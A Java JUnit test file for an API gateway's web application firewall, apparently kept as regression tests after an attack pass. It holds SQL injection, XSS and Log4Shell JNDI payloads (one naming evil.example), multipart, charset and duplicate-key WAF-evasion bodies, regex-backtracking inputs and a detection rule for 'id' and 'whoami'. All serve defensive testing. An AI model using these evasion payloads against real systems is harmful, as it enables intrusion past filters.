package dev.gantry.gateway;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vertx.core.Vertx;
import io.vertx.core.buffer.Buffer;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import io.vertx.ext.web.client.HttpResponse;
import io.vertx.junit5.VertxExtension;
import java.nio.charset.Charset;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * What an attack pass on the first WAF found, kept as tests: bodies read differently by the WAF
 * and by the application (multipart tricks, undeclared or unusual types, duplicate keys,
 * charsets), ordinary traffic it refused, and inputs that made its regular expressions backtrack
 * for seconds — which must now be answered having read them within the step budget.
 */
@ExtendWith(VertxExtension.class)
class WafAttackPassTest {
  private static final String SQLI = "' union select password from users-- -";
  private TestUpstream upstream;
  private GatewayHarness gw;

  @BeforeEach
  void start(Vertx vertx) {
    upstream = new TestUpstream(vertx, "up").start();
    gw = GatewayHarness.start(vertx, "policies:\n  - waf: {inspect-body-bytes: 1048576}\n"
        + GatewayHarness.routesTo(upstream, "{id: public, match: {path: /public/**}, upstream: up}"));
  }

  @AfterEach
  void stop() {
    gw.stop();
    upstream.stop();
  }

  private int post(String contentType, Buffer body) {
    var request = gw.client.post("/public/x");
    if (contentType != null) {
      request.putHeader("Content-Type", contentType);
    }
    return request.sendBuffer(body).await().statusCode();
  }

  private int post(String contentType, String body) {
    return post(contentType, Buffer.buffer(body));
  }

  @Test
  void multipartBodiesAReadableTwoWaysAreRefused() {
    String longBoundary = "A".repeat(70) + "--tail";
    List<String[]> cases = List.of(
        new String[] {"multipart/form-data; boundary=" + longBoundary, "--" + longBoundary
            + "\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + SQLI + "\r\n--" + longBoundary + "--\r\n"},
        new String[] {"multipart/form-data; boundary=aaa; boundary=bbb", "--aaa\r\nContent-Disposition: form-data;"
            + " name=\"x\"\r\n\r\nhi\r\n--aaa--\r\n--bbb\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + SQLI
            + "\r\n--bbb--\r\n"},
        new String[] {"multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n"
            + "Content-Disposition: form-data; name=\"q\"; filename=\"a.txt\"\r\n\r\n" + SQLI + "\r\n--XyZ--\r\n"},
        new String[] {"multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n"
            + "hello\r\n--XyZfake\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\n" + SQLI
            + "\r\n--XyZ--\r\n"},
        new String[] {"multipart/form-data; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n"
            + "Content-Transfer-Encoding: quoted-printable\r\n\r\n=27 union select password from users-- -\r\n--XyZ--\r\n"},
        new String[] {"multipart/mixed; boundary=XyZ", "--XyZ\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n"
            + "<script>alert(1)</script>\r\n--XyZ--\r\n"});
    for (String[] c : cases) {
      assertEquals(403, post(c[0], c[1]), c[0] + "\n" + c[1]);
    }
    assertEquals(0, upstream.requests.get());
  }

  @Test
  void bodiesOfEveryTextualTypeAreInspected() {
    String json = new JsonObject().put("q", SQLI).encode();
    assertEquals(403, post("application/xml", "<r><q>" + SQLI + "</q></r>"), "XML text");
    assertEquals(403, post("text/xml", "<r q=\"" + SQLI.replace("'", "&apos;") + "\"/>"), "an XML attribute");
    assertEquals(403, post(null, json), "JSON without a Content-Type");
    assertEquals(403, post("text/plain", json), "JSON as text/plain");
    assertEquals(403, post("application/x-ndjson", "{\"a\":1}\n" + json + "\n"), "NDJSON");
    assertEquals(403, post("application/graphql", "{ user(id: \"" + SQLI + "\") { name } }"), "GraphQL");
    assertEquals(403, post("application/json", "{\"q\":\"" + SQLI.replace("'", "\\u0027") + "\",\"q\":\"x\"}"),
        "a key given twice is read twice");
    assertEquals(403, post("application/x-www-form-urlencoded; charset=ibm037",
        Buffer.buffer(("q=" + java.net.URLEncoder.encode(SQLI, java.nio.charset.StandardCharsets.UTF_8))
            .getBytes(Charset.forName("IBM037")))), "a charset the WAF does not read");
    assertEquals(0, upstream.requests.get());
  }

  @Test
  void aLog4ShellLookupInThePathIsBlocked() {
    assertEquals(403, gw.get("/public/$%7Bjndi:ldap:evil.example%7D").statusCode());
  }

  @Test
  void ordinaryTrafficItOnceRefusedPasses() {
    assertEquals(200, gw.client.get("/public/x").putHeader("Referer",
        "https://www.google.com/search?q=union+select+tutorial").send().await().statusCode());
    assertEquals(200, gw.client.get("/public/x").putHeader("User-Agent", "Fax-Scan/2.1").send().await().statusCode());
    assertEquals(200, post("application/x-www-form-urlencoded", "comment=I am 100% sure"),
        "bad percent-encoding in a form is a warning, not a block");
    JsonObject graphql = new JsonObject().put("query",
        "query GetUser($id: ID!) {\n  user(id: $id) {\n    id\n    name\n  }\n}").put("variables",
        new JsonObject().put("id", "42"));
    assertEquals(200, post("application/json", graphql.encode()), "an Apollo-printed query");
    assertEquals(200, post("application/json", new JsonObject().put("text",
        "| id | name |\n|----|------|\n| 1 | Ann |\n\nRuby on Rails\nPython\nPHP").encode()), "markdown");
    assertEquals(200, post("application/json", "{\"access_log\":\"off\",\"error_log\":\"stderr\"}"));
    JsonArray items = new JsonArray();
    for (int i = 0; i < 250; i++) {
      items.add(new JsonObject().put("sku", "S-" + i).put("name", "Item " + i).put("note", "ok").put("qty", i)
          .put("tag", "t" + i));
    }
    assertEquals(200, post("application/json", new JsonObject().put("items", items).encode()), "a bulk body");
    StringBuilder deep = new StringBuilder();
    deep.append("{\"a\":".repeat(100)).append("1").append("}".repeat(100));
    assertEquals(200, post("application/json", deep.toString()), "100 levels of JSON");
    for (String message : List.of("Hi,\r\nI'd like to know", "Thanks.\nI'd like a refund", "Hello,\n\nId number attached",
        "Cheers,\nid", "Hi\ncat photos", "Hi\nping me", "Items:\nenv. friendly bags", "Bob\nnc state", "Hi,\nwhoami?",
        "```python\nprint('hi')\n```", "```\nls\n```")) {
      assertEquals(200, post("application/json", new JsonObject().put("message", message).encode()), message);
    }
    assertEquals(19, upstream.requests.get());
  }

  /**
   * Inputs that made the first version's regular expressions backtrack for seconds. They are
   * harmless, so the answer is 200 — which the WAF gives only if every rule finished reading them
   * within its step budget (a count of characters read, not a clock); an exhausted budget refuses.
   */
  @Test
  void pathologicalInputsAreReadWithinTheStepBudget() {
    assertEquals(200, post("application/x-www-form-urlencoded", "q=" + "%0d%0a".repeat(3000)), "CR LF runs");
    assertEquals(200, post("application/json", new JsonObject().put("q", "\n".repeat(10_000)).encode()));
    assertEquals(200, post("application/x-www-form-urlencoded; charset=utf-8", "q=" + "\u0300".repeat(16_000)),
        "combining marks");
    assertEquals(200, post("application/json", new JsonObject().put("q", "http://" + "?".repeat(40_000) + "x").encode()));
    assertEquals(200, post("application/json", new JsonObject().put("q", "<a " + "x".repeat(30_000)).encode()));
    assertEquals(200, post("application/json", new JsonObject().put("q", "; ".repeat(20_000)).encode()));
    assertEquals(200, post("application/xml", "<" + "a".repeat(500_000)), "one long run in a tag (read once, not once per"
        + " character: 3 s for 20,000 before, hours for 500,000)");
  }

  @Test
  void aValueTooCostlyToReadIsRefusedNotPassed(Vertx vertx) {
    gw.stop();
    upstream.stop();
    upstream = new TestUpstream(vertx, "up").start();
    gw = GatewayHarness.start(vertx, "policies:\n  - waf: {default-rules: false, rules: [{id: 100, message: nested,"
        + " targets: [args], match: {regex: '\\n\\s*(?:id|whoami)\\b'}}]}\n"
        + GatewayHarness.routesTo(upstream, "{id: public, match: {path: /public/**}, upstream: up}"));
    // the first 932100's shape: a newline, then blanks that are newlines too — quadratic in their number
    HttpResponse<Buffer> r = gw.client.post("/public/x").putHeader("Content-Type", "application/json")
        .sendBuffer(new JsonObject().put("q", "\n".repeat(20_000)).toBuffer()).await();
    assertEquals(403, r.statusCode());
    assertTrue(r.bodyAsJsonObject().getString("detail").contains("rule 100"), r.bodyAsString());
    String excerpt = gw.admin.get("/admin/stats").bearerTokenAuthentication(GatewayHarness.TOKEN).send().await()
        .bodyAsJsonObject().getJsonArray("recentBlocks").getJsonObject(0).getString("excerpt");
    assertTrue(excerpt.contains("too costly"), excerpt);
    assertEquals(403, gw.get("/public/x?q=%0A%0A+id").statusCode(), "a value that matches is blocked as usual");
    assertEquals(200, gw.get("/public/x?q=%0A%0A+name").statusCode(), "a short value that does not match passes");
  }
}
